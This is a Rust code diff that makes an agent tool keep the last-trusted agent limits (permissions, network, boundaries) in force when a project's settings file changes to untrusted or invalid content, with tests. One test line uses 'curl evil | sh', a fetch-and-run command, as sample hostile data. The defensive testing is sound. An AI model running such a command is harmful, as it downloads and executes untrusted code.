@@ -14,6 +14,10 @@ use utoipa::ToSchema;
 
 /// The setting with the hashes of the contents that a person trusted.
 pub const TRUSTED: &str = "trusted_settings_files";
+/// The setting that keeps the limits of the content that was trusted last. They stay in force until a person trusts other content.
+pub const TRUSTED_LIMITS: &str = "trusted_limits";
+/// The settings that limit agents.
+const LIMITS: [&str; 4] = ["permissions", "network", "network_allow", "boundaries"];
 
 /// Why a project's commands do not run.
 #[derive(Clone, Debug, PartialEq, Eq)]
@@ -56,6 +60,8 @@ pub struct InForce {
     pub file: SettingsFile,
     /// The settings that the file gives, while it is trusted.
     of_file: Map<String, Value>,
+    /// The settings that the file would give.
+    offered: Map<String, Value>,
     /// The settings that a person gave.
     own: Map<String, Value>,
 }
@@ -82,15 +88,20 @@ fn commands(settings: &Map<String, Value>) -> Vec<String> {
 }
 
 impl InForce {
+    /// Returns the limits on agents that the file on the base branch gives, trusted or not.
+    pub fn offered_limits(&self) -> Map<String, Value> {
+        limits_of(self.offered.clone())
+    }
+
     /// Joins what a person set with the file.
     pub(crate) fn new(project: &Project, loaded: &Loaded, redactor: &Redactor) -> Self {
-        let own = own(project);
-        let trusted: Vec<&str> = own
+        let mut own = own(project);
+        let trusted: Vec<String> = own
             .get(TRUSTED)
             .and_then(Value::as_array)
             .into_iter()
             .flatten()
-            .filter_map(Value::as_str)
+            .filter_map(|hash| hash.as_str().map(str::to_owned))
             .collect();
         let mut file = SettingsFile {
             path: PATH.to_owned(),
@@ -101,7 +112,10 @@ impl InForce {
             content: None,
             changes: Vec::new(),
         };
+        let limits =
+            own.remove(TRUSTED_LIMITS).and_then(|kept| kept.as_object().cloned()).unwrap_or_default();
         let mut of_file = Map::new();
+        let mut offered = Map::new();
         let mut hold = None;
         let branch = &project.default_branch;
         match &loaded.content {
@@ -112,29 +126,32 @@ impl InForce {
                 let reason = format!("{PATH} on {branch} cannot be used: {error}. Correct it there.");
                 hold = Some(CommandHold { commands: vec![PATH.to_owned()], reason: reason.clone() });
                 file.error = Some(reason);
+                of_file = limits;
             }
             Content::Read { hash, file: found, text } => {
                 file.hash = Some(hash.clone());
-                if trusted.contains(&hash.as_str()) {
+                offered = found.settings();
+                if trusted.contains(hash) {
                     file.state = FileState::Trusted;
                     of_file = found.settings();
                 } else {
                     file.state = FileState::Untrusted;
                     file.content = Some(redactor.redact(text).into_owned());
-                    file.changes = would_change(found, &own);
+                    file.changes = would_change(found, &limits, &own);
                     redact(&mut file.changes, redactor);
                     let reason = untrusted(project, hash);
                     let held = commands(&merge(&found.settings(), &own));
                     hold = (held != commands(&merge(&Map::new(), &own)))
                         .then(|| CommandHold { commands: held, reason: reason.clone() });
                     file.error = Some(reason);
+                    of_file = limits;
                 }
             }
         }
         let kept = Value::Object(merge(&of_file, &own));
         let mut settings = ProjectSettings::read(&kept);
         settings.hold = if settings.unconfirmed_commands { Some(unconfirmed()) } else { hold };
-        Self { settings, kept, file, of_file, own }
+        Self { settings, kept, file, of_file, offered, own }
     }
 
     /// Returns each setting in force with where it comes from.
@@ -167,8 +184,19 @@ impl InForce {
     }
 }
 
-fn would_change(file: &ProjectFile, own: &Map<String, Value>) -> Vec<SettingsChange> {
-    changes::between(&merge(&Map::new(), own), &merge(&file.settings(), own))
+/// Returns what trusting a file would change, compared with the limits that are in force.
+fn would_change(
+    file: &ProjectFile,
+    limits: &Map<String, Value>,
+    own: &Map<String, Value>,
+) -> Vec<SettingsChange> {
+    changes::between(&merge(limits, own), &merge(&file.settings(), own))
+}
+
+/// Returns the settings of a file that limit agents.
+pub fn limits_of(mut settings: Map<String, Value>) -> Map<String, Value> {
+    settings.retain(|name, _| LIMITS.contains(&name.as_str()));
+    settings
 }
 
 fn redact(changes: &mut [SettingsChange], redactor: &Redactor) {
@@ -195,7 +223,10 @@ fn unconfirmed() -> CommandHold {
 
 #[cfg(test)]
 mod tests {
+    use super::super::changes::ChangeKind;
     use super::*;
+    use crate::config::NetworkMode;
+    use crate::permissions::Policy;
     use workflow::Millis;
 
     fn project(settings: Value) -> Project {
@@ -238,6 +269,31 @@ mod tests {
         let changed = in_force(trusted, &FILE.replace("make test", "curl evil | sh"));
         assert_eq!(changed.file.state, FileState::Untrusted);
         assert!(changed.settings.checks.is_empty() && changed.settings.hold.is_some());
+    }
+
+    #[test]
+    fn the_limits_that_were_trusted_last_hold_until_other_content_is_trusted() {
+        const STRICT: &str = "permissions = \"ask\"\nnetwork = \"none\"\nboundaries = [\"migrations/\"]\nchecks = [\"true\"]\n";
+        let file = ProjectFile::parse(STRICT).expect("a file");
+        let kept = json!({
+            TRUSTED: [super::super::hash(STRICT.as_bytes())], TRUSTED_LIMITS: limits_of(file.settings()),
+        });
+        let invalid = "permissions = 1\n".to_owned();
+        for text in [format!("{STRICT}# Another content.\n"), "checks = [\"true\"]\n".to_owned(), invalid] {
+            let found = in_force(kept.clone(), &text);
+            assert_ne!(found.file.state, FileState::Trusted);
+            assert_eq!(found.settings.permissions, Policy::Ask, "{text}");
+            assert_eq!(found.settings.network, Some(NetworkMode::None), "{text}");
+            assert_eq!(found.settings.boundaries, ["migrations/"], "{text}");
+            assert!(found.settings.checks.is_empty() && found.settings.hold.is_some(), "{text}");
+        }
+        let looser = in_force(kept, "checks = [\"true\"]\n").file.changes;
+        let looser: Vec<&str> = looser
+            .iter()
+            .filter(|change| change.kind == ChangeKind::Loosened)
+            .map(|change| change.setting.as_str())
+            .collect();
+        assert_eq!(looser, ["boundaries", "network", "permissions"]);
     }
 
     #[test]
